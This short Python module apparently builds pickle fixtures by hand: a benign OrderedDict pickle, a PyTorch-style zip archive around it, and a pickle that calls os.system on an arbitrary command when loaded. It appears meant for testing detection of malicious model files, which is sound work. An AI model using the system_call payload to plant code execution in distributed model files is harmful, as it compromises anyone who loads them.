"""Pickles put together opcode by opcode, so that nothing runs while they are made."""

from __future__ import annotations

import io
import zipfile

PROTO = b"\x80\x02"
STOP = b"."


def system_call(command: str) -> bytes:
    """A pickle that calls ``os.system(command)`` as soon as somebody loads it."""
    text = command.encode()
    argument = b"X" + len(text).to_bytes(4, "little") + text
    return PROTO + b"cposix\nsystem\n" + argument + b"\x85R" + STOP


def harmless() -> bytes:
    """A pickle of an ordered dictionary, which every PyTorch file has."""
    return PROTO + b"ccollections\nOrderedDict\n)R" + STOP


def torch_archive(pickled: bytes) -> bytes:
    """The zip that ``torch.save`` writes around a pickle."""
    entries = {
        "archive/data.pkl": pickled,
        "archive/byteorder": b"little",
        "archive/data/0": bytes(64),
        "archive/version": b"3\n",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()
